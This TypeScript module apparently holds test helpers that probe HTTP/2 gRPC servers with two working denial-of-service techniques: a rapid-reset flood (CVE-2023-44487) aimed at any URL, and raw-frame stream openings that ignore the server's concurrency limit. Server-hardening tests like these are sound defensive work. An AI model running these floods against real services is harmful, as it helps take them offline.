import * as http2 from 'node:http2';
import * as net from 'node:net';
import * as tls from 'node:tls';

/** How a connection under a flood ended: the server's GOAWAY error code (null: none came), and what it had sent. */
export interface FloodOutcome {
  goawayCode: number | null;
  sent: number;
}

/**
 * A rapid-reset flood (CVE-2023-44487) through node:http2's client: opens `count` gRPC calls on one
 * connection, resetting each (RST_STREAM, CANCEL) as soon as it is sent, in batches that let the
 * socket write. Resolves once the server ended the connection, or a moment after the last reset.
 */
export function resetFlood(url: string, count: number, path = '/grpc.health.v1.Health/Check'): Promise<FloodOutcome> {
  return new Promise((resolve) => {
    const session = http2.connect(url, { rejectUnauthorized: false });
    const outcome: FloodOutcome = { goawayCode: null, sent: 0 };
    session.on('goaway', (code) => (outcome.goawayCode = code));
    session.on('error', () => undefined);
    session.on('close', () => resolve(outcome));
    const open = () => !session.closed && !session.destroyed;
    const batch = (): void => {
      for (let i = 0; i < 500 && outcome.sent < count && open(); i++, outcome.sent++) {
        const stream = session.request({ ':method': 'POST', ':path': path, 'content-type': 'application/grpc', te: 'trailers' }, { endStream: false });
        stream.on('error', () => undefined);
        stream.close(http2.constants.NGHTTP2_CANCEL);
      }
      if (outcome.sent < count && open()) setImmediate(batch);
      // The server reads the last batches after we wrote them: a moment for its answer, then we leave.
      else setTimeout(() => session.destroy(), 1_000);
    };
    session.on('connect', batch);
  });
}

/** What a server did with streams opened past its limit by a client that ignores the limit. */
export interface StreamsOutcome {
  /** The server's SETTINGS_MAX_CONCURRENT_STREAMS (null: it sent none, i.e. no limit). */
  advertised: number | null;
  /** Streams the server refused (RST_STREAM). */
  refused: number;
  goawayCode: number | null;
}

const FRAME = { headers: 0x1, rstStream: 0x3, settings: 0x4, goaway: 0x7 } as const;
const SETTINGS_MAX_CONCURRENT_STREAMS = 0x3;

function frame(type: number, flags: number, streamId: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header.writeUInt8(type, 3);
  header.writeUInt8(flags, 4);
  header.writeUInt32BE(streamId, 5);
  return Buffer.concat([header, payload]);
}

/** HPACK literal without indexing, name by its static-table index (RFC 7541 §6.2.2); values under 127 bytes. */
function literal(nameIndex: number, value: string): Buffer {
  return Buffer.concat([nameIndex < 15 ? Buffer.from([nameIndex]) : Buffer.from([0x0f, nameIndex - 15]), Buffer.from([value.length]), Buffer.from(value)]);
}

/** A gRPC call's request head: POST, http, its path, content-type application/grpc (HPACK static indexes 3, 6, 4, 31). */
function grpcHeaderBlock(path: string): Buffer {
  return Buffer.concat([Buffer.from([0x83, 0x86]), literal(4, path), literal(31, 'application/grpc')]);
}

/**
 * Opens `count` streams on one connection in raw frames, ignoring the server's stream limit as a hostile
 * client would: each a gRPC call's HEADERS without END_STREAM, so none ends on its own. Acknowledges the
 * server's SETTINGS first, so its limit is in force. Resolves with what the server sent back within
 * `settleMs`. `secure`: over TLS (ALPN h2), any certificate.
 */
export function openStreamsIgnoringLimit(port: number, count: number, settleMs: number, secure = false, path = '/grpc.health.v1.Health/Check'): Promise<StreamsOutcome> {
  return new Promise((resolve, reject) => {
    const outcome: StreamsOutcome = { advertised: null, refused: 0, goawayCode: null };
    const socket: net.Socket = secure
      ? tls.connect({ port, host: '127.0.0.1', ALPNProtocols: ['h2'], rejectUnauthorized: false })
      : net.connect(port, '127.0.0.1');
    let pending = Buffer.alloc(0);
    let flooded = false;
    let settle: NodeJS.Timeout | undefined;
    const flood = (): void => {
      flooded = true;
      const block = grpcHeaderBlock(path);
      const frames: Buffer[] = [];
      for (let i = 0; i < count; i++) frames.push(frame(FRAME.headers, 0x4, 2 * i + 1, block));
      socket.write(Buffer.concat(frames));
      settle = setTimeout(() => socket.destroy(), settleMs);
    };
    socket.on('data', (chunk: Buffer) => {
      pending = Buffer.concat([pending, chunk]);
      while (pending.length >= 9 && pending.length >= 9 + pending.readUIntBE(0, 3)) {
        const length = pending.readUIntBE(0, 3);
        const [type, flags, payload] = [pending.readUInt8(3), pending.readUInt8(4), pending.subarray(9, 9 + length)];
        pending = pending.subarray(9 + length);
        if (type === FRAME.settings && (flags & 0x1) === 0) {
          for (let at = 0; at + 6 <= payload.length; at += 6) {
            if (payload.readUInt16BE(at) === SETTINGS_MAX_CONCURRENT_STREAMS) outcome.advertised = payload.readUInt32BE(at + 2);
          }
          socket.write(frame(FRAME.settings, 0x1, 0));
          if (!flooded) flood();
        }
        if (type === FRAME.rstStream) outcome.refused++;
        if (type === FRAME.goaway) outcome.goawayCode = payload.readUInt32BE(4);
      }
    });
    socket.on('error', () => undefined);
    socket.on('close', () => {
      clearTimeout(settle);
      if (flooded) resolve(outcome);
      else reject(new Error('the server closed the connection before its SETTINGS'));
    });
    socket.once(secure ? 'secureConnect' : 'connect', () => socket.write(Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(FRAME.settings, 0, 0)])));
  });
}
